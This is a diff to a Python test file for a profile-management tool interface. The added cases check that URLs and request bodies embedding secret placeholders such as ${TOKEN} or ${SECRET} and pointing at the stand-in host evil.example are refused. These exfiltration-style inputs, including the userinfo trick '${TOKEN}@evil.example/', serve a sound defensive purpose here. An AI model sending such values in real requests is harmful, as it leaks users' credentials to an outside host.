@@ -173,6 +173,7 @@ READY = "https://shop.example/${TOKEN}"
         ("tm_create_profile", {**FIELDS, "target_url": "https://evil.example/${SECRET}"}),
         ("tm_update_profile", {"request_body": "${SECRET:-x}"}),
         ("tm_update_profile", {"target_url": "https://evil.example/"}),
+        ("tm_update_profile", {"target_url": "${TOKEN}@evil.example/"}),
         ("tm_update_profile", {"readiness_url": "https://evil.example/${TOKEN}"}),
         ("tm_import_profile", {"profile": {**DOCUMENT, "requestPayload": "${SECRET}"}}),
         ("tm_import_profile", {"profile": {**DOCUMENT, "requestHeaders": None, "steps": ["${A}"]}}),
@@ -197,6 +198,12 @@ def test_placeholders_that_are_there_stay_and_others_are_text_elsewhere(asking, 
     server.profile(**stored).answer("PUT", "/profiles/42", stored)
     more = {"request_body": "a=${TOKEN}&b=$${X}", "target_url": f"{WHOLE['targetUrl']}/2"}
     assert not asking.call("tm_update_profile", profile_id=42, **more).is_error
+    by_variable = {**WHOLE, "targetUrl": "${BASE}/a"}
+    server.profile(**by_variable).answer("PUT", "/profiles/42", by_variable)
+    assert not asking.call("tm_update_profile", profile_id=42, duration_seconds=70).is_error
+    server.profile(**by_variable).features(startValues=True)
+    answer = asking.call("tm_update_profile", profile_id=42, target_url="${BASE}@evil.example/")
+    assert answer.found["exit_name"] == "REFUSED"
     server.profile().features().answer("PUT", "/profiles/42", stored)
     answer = asking.call("tm_update_profile", profile_id=42, request_body="${SECRET}")
     assert not answer.is_error
